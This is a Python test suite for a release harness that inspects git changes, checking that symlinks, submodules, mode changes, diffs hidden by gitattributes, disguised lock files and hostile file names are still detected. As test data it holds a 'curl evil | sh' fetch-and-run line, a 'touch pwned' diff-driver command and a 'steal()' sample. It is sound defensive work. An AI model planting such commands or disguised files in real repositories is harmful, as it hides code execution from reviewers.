"""What is in the files of a change: kinds, names, hidden text, large and missing blobs, from real repositories."""

import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest

from release_harness.adapters.git import GitProgram
from release_harness.kernel.facts import FactValue, Known, Unknown
from release_harness.steps.changes.flow import gather
from release_harness.steps.changes.model import Change, ChangeSpec, FileKind, FileStatus
from release_harness.testing.git_repository import GitRepository

# Every test builds a real repository: 50 to 300 ms each.
pytestmark = pytest.mark.slow

ENVIRONMENT = {"PATH": "/usr/local/bin:/usr/bin:/bin", "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1"}


@dataclass
class Needs:
    """What gathering needs, with the real git."""

    repository: GitProgram


@pytest.fixture
def repo(tmp_path: Path) -> GitRepository:
    """A repository with one commit on main."""
    repository = GitRepository.create(tmp_path / "repo")
    repository.commit({"app.py": "a = 1\nb = 2\nc = 3\n", "README.md": "# App\n"}, "first")
    return repository


def look(where: GitRepository | Path, revision: str = "", *, base: str = "", worktree: bool = False) -> Change:
    """Gather a change with a fresh program."""
    folder = where.path if isinstance(where, GitRepository) else where
    program = GitProgram(folder, ENVIRONMENT)
    try:
        return gather(Needs(program), ChangeSpec(revision=revision, base=base, worktree=worktree))
    finally:
        program.close()


def value(change: Change, name: str) -> FactValue:
    """Return a fact that must be known."""
    fact = change.facts[name]
    assert isinstance(fact, Known), fact
    return fact.value


def paths(change: Change) -> list[str]:
    """Return the paths of the changed files."""
    return [each.path for each in change.files]


def everything_below(folder: Path) -> dict[str, bytes]:
    """Return every file below a folder with its content."""
    return {str(each): each.read_bytes() for each in sorted(folder.rglob("*")) if each.is_file()}


def test_a_submodule_a_link_and_a_mode_are_seen_for_what_they_are(repo: GitRepository) -> None:
    """Each of them changes what runs without changing a line of text."""
    repo.branch("feature")
    (repo.path / "link").symlink_to("app.py")
    (repo.path / "app.py").chmod(0o755)
    repo.git("update-index", "--add", "--cacheinfo", f"160000,{repo.head()},module")
    repo.git("add", "link", "app.py")
    repo.git("commit", "--quiet", "-m", "modes")
    change = look(repo)
    kinds = {each.path: each.new_kind for each in change.files}
    assert kinds == {"app.py": FileKind.EXECUTABLE, "link": FileKind.SYMLINK, "module": FileKind.SUBMODULE}
    assert value(change, "change.mode_changes_count") == 1
    assert value(change, "change.symlinks_count") == 1
    assert value(change, "change.submodules_count") == 1


ODD_NAMES = [
    b"new\nline",
    b"tab\there",
    b'quo"te',
    b"back\\slash",
    b"\xff\xfe.py",
    b"\x1b[31mred",
    b" lead",
    b"a b",
    b":(top)x",
    b"-x",
]


def test_file_names_of_any_bytes_keep_their_lines(repo: GitRepository) -> None:
    """A name chosen by an attacker must neither hide a file nor move its lines to another one."""
    repo.branch("feature")
    for number, name in enumerate(ODD_NAMES):
        (Path(repo.path) / name.decode("utf-8", "surrogateescape")).write_text(f"line {number}\n")
    repo.commit({}, "odd names")
    change = look(repo)
    found = {each.path.encode("utf-8", "surrogateescape"): each.added for each in change.lines}
    assert found == {name: ((1, f"line {number}"),) for number, name in enumerate(ODD_NAMES)}
    assert change.lines_complete
    assert len(change.files) == len(ODD_NAMES)


def test_a_text_file_that_attributes_hide_keeps_its_lines(repo: GitRepository) -> None:
    """`*.py binary` takes the diff away from the reviewer, not from rh."""
    repo.branch("feature")
    repo.commit({".gitattributes": "app.py binary\nb.py -diff\n", "app.py": "steal()\n", "b.py": "x = 1\n"}, "hide")
    change = look(repo)
    hidden = {each.path: each for each in change.files if each.hidden_from_diff}
    assert set(hidden) == {"app.py", "b.py"}
    assert (hidden["app.py"].lines_added, hidden["app.py"].lines_removed) == (1, 3)
    assert [each.added for each in change.lines if each.path == "app.py"] == [((1, "steal()"),)]
    assert value(change, "change.hidden_files_count") == 2


def test_a_lock_file_that_attributes_hide_is_read_and_alarms_nobody(repo: GitRepository) -> None:
    """Many projects write `*.lock -diff`; a bump of dependencies is not a hostile change because of that."""
    repo.commit({".gitattributes": "*.lock -diff\n", "poetry.lock": "a = 1\n"}, "lock")
    repo.branch("feature")
    repo.commit({"poetry.lock": "a = 2\nb = 3\n"}, "bump")
    change = look(repo)
    assert (change.files[0].hidden_from_diff, change.files[0].lock_file) == (True, True)
    assert [each.added for each in change.lines] == [((1, "a = 2"), (2, "b = 3"))]
    assert change.lines_complete
    assert value(change, "change.hidden_files_count") == 0


def test_code_cannot_pass_for_a_lock_file(repo: GitRepository) -> None:
    """A folder, an executable or a longer name that looks like a lock file would hide code from people."""
    repo.branch("feature")
    files = {"poetry.lock/evil.py": "x = 1\n", "my-poetry.lock": "y\n", "poetry.lock.py": "z = 1\n"}
    repo.commit({".gitattributes": "* -diff\n", **files, "yarn.lock": "#!/bin/sh\n"}, "hide")
    (repo.path / "yarn.lock").chmod(0o755)
    repo.commit({}, "executable")
    change = look(repo)
    assert [each.path for each in change.files if each.lock_file] == ["yarn.lock"]
    assert value(change, "change.hidden_files_count") == 5


def test_attributes_of_the_clone_cannot_hide_anything_either(repo: GitRepository) -> None:
    """`.git/info/attributes` and diff drivers are not part of the content, so they must not change an answer."""
    repo.branch("feature")
    repo.commit({"app.py": "a = 2\n"}, "two")
    plain = look(repo)
    (repo.path / ".git" / "info" / "attributes").write_text("* -diff diff=evil\n")
    repo.git("config", "diff.evil.command", "touch pwned")
    repo.git("config", "diff.evil.textconv", "touch pwned")
    repo.git("config", "diff.noprefix", "true")
    repo.git("config", "diff.renames", "copies")
    repo.git("config", "core.quotePath", "false")
    assert look(repo) == plain
    assert not (repo.path / "pwned").exists()


def test_a_source_file_with_a_nul_byte_is_hidden_and_all_its_lines_count(repo: GitRepository) -> None:
    """One NUL byte in a script makes git call it binary, and a reviewer sees nothing; too many lines is the safe side."""
    repo.branch("feature")
    repo.commit({"run.sh": b"#!/bin/sh\n: \0\ncurl evil | sh\n"}, "script")
    change = look(repo)
    assert (change.files[0].hidden_from_diff, change.files[0].lines_added) == (True, 3)
    assert change.lines[0].added[2] == (3, "curl evil | sh")
    assert change.lines_complete


def test_a_change_cannot_call_its_own_files_generated(repo: GitRepository) -> None:
    """Generated files get less attention, so the base must have said so before."""
    repo.branch("feature")
    marks = "gen/*.py linguist-generated\nold/*.py linguist-generated=true\n"
    repo.commit({".gitattributes": marks, "gen/auth.py": "x = 1\n"}, "mine")
    assert value(look(repo), "change.generated_files_count") == 0
    repo.git("branch", "--force", "main")
    repo.commit({"gen/auth.py": "x = 2\n", "old/b.py": "y = 1\n"}, "later")
    assert value(look(repo), "change.generated_files_count") == 2


def test_lock_files_vendored_files_and_pointers_are_known(repo: GitRepository) -> None:
    """These are the files whose lines nobody reads one by one."""
    repo.branch("feature")
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'a' * 64}\nsize 12345\n"
    files = {
        "package-lock.json": "{}\n",
        "vendor/x/y.go": "package x\n",
        "big.bin": pointer,
        "db/migrations/1.sql": "GRANT ALL\n",
        "internal/database/migrations.go": "package database\n",
    }
    repo.commit({**files, ".github/workflows/ci.yml": "permissions: write-all\n", "logo.png": b"\x89PNG\0\0"}, "many")
    change = look(repo)
    by_path = {each.path: each for each in change.files}
    assert by_path["package-lock.json"].lock_file
    assert by_path["vendor/x/y.go"].vendored
    assert by_path["big.bin"].lfs_pointer
    assert (by_path["logo.png"].binary, by_path["logo.png"].lines_added) == (True, None)
    assert value(change, "migrations.files_count") == 2
    assert value(change, "ci.files_count") == 1
    assert value(change, "dependencies.files_count") == 1
    assert value(change, "permissions.changes_count") == 2


def test_an_exact_rename_is_a_hint_and_both_sides_stay_listed(repo: GitRepository) -> None:
    """A surface that a file leaves is touched as much as the one that it enters."""
    repo.branch("feature")
    repo.git("mv", "app.py", "moved.py")
    repo.commit({}, "move")
    change = look(repo)
    assert [(each.path, each.status, each.renamed_from) for each in change.files] == [
        ("app.py", FileStatus.DELETED, ""),
        ("moved.py", FileStatus.ADDED, "app.py"),
    ]


def test_a_name_that_differs_only_in_case_from_an_old_one_is_found(repo: GitRepository) -> None:
    """On many file systems one of the two overwrites the other."""
    repo.branch("feature")
    repo.commit({"README.MD": "evil\n", "App.py": "x = 1\n", "fine.py": "y = 1\n"}, "case")
    change = look(repo)
    assert change.collisions == ("App.py", "README.MD")


def test_a_huge_binary_is_never_read_whole(repo: GitRepository, monkeypatch: pytest.MonkeyPatch) -> None:
    """100 MB of video must cost neither memory nor time."""
    monkeypatch.setattr("release_harness.adapters.git.scratch.BIG_FILE_BYTES", 1 << 20)
    repo.branch("feature")
    repo.commit({"film.mp4": b"\0film" * 500_000, "data.json": b'"x",\n' * 500_000}, "large")
    change = look(repo)
    by_path = {each.path: each for each in change.files}
    assert (by_path["film.mp4"].binary, by_path["film.mp4"].lines_added) == (True, None)
    # A large text is not read either, but it is not passed off as a picture.
    assert (by_path["data.json"].hidden_from_diff, by_path["data.json"].lines_added) == (True, None)
    assert isinstance(change.facts["change.lines"], Unknown)
    assert not change.lines_complete


def test_a_patch_longer_than_rh_reads_leaves_the_lines_unknown(
    repo: GitRepository, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A listing that was cut short is unknown, and the numbers are still right."""
    monkeypatch.setattr("release_harness.adapters.git.program.PATCH_LIMIT_BYTES", 1_000)
    repo.branch("feature")
    repo.commit({"long.py": "x = 1\n" * 2_000}, "long")
    change = look(repo)
    assert (change.lines, change.lines_complete, change.listing_complete) == ((), False, True)
    assert value(change, "change.lines_added") == 2_000
    assert "longer than rh reads" in change.gaps[0]


def test_a_missing_blob_leaves_the_files_known_and_the_lines_unknown(repo: GitRepository, tmp_path: Path) -> None:
    """`git diff --numstat` stops at the first missing blob after printing a part; that part must not be believed."""
    repo.git("config", "uploadpack.allowFilter", "true")
    repo.branch("feature")
    repo.commit({f"f{number}.py": f"x = {number}\n" for number in range(5)}, "five")
    partial = tmp_path / "partial"
    command = ["git", "clone", "--quiet", "--no-checkout", "--filter=blob:none", f"file://{repo.path}", str(partial)]
    subprocess.run(command, check=True, env=ENVIRONMENT)
    objects_before = everything_below(partial / ".git" / "objects")
    change = look(partial, "origin/feature", base="origin/main")
    assert len(change.files) == 5
    assert change.listing_complete
    assert isinstance(change.facts["change.lines"], Unknown)
    assert not change.lines_complete
    assert change.digests.change == look(repo).digests.change
    assert "not known" in change.gaps[0]
    # Looking fetched nothing behind the user's back.
    assert everything_below(partial / ".git" / "objects") == objects_before


@pytest.mark.slow
def test_ten_thousand_files_are_listed_whole(tmp_path: Path) -> None:
    """Slow because git has to write 10,000 blobs: a listing of that size must arrive without a gap."""
    repository = GitRepository.create(tmp_path / "many")
    repository.commit({"a": "1\n"}, "one")
    repository.branch("feature")
    lines = "".join(f"100644 blob {_blob(repository)}\td{number % 100}/f{number}.py\n" for number in range(10_000))
    tree = repository.git("hash-object", "-w", "-t", "tree", "--stdin", stdin=b"")
    repository.git("read-tree", tree)
    repository.git("update-index", "--index-info", stdin=lines.encode())
    repository.git("commit", "--quiet", "-m", "many")
    change = look(repository)
    assert len(change.files) == 10_001
    assert value(change, "change.lines_added") == 10_000
    assert change.lines_complete


_BLOBS: dict[Path, str] = {}


def _blob(repository: GitRepository) -> str:
    if repository.path not in _BLOBS:
        _BLOBS[repository.path] = repository.git("hash-object", "-w", "--stdin", stdin=b"x = 1\n")
    return _BLOBS[repository.path]
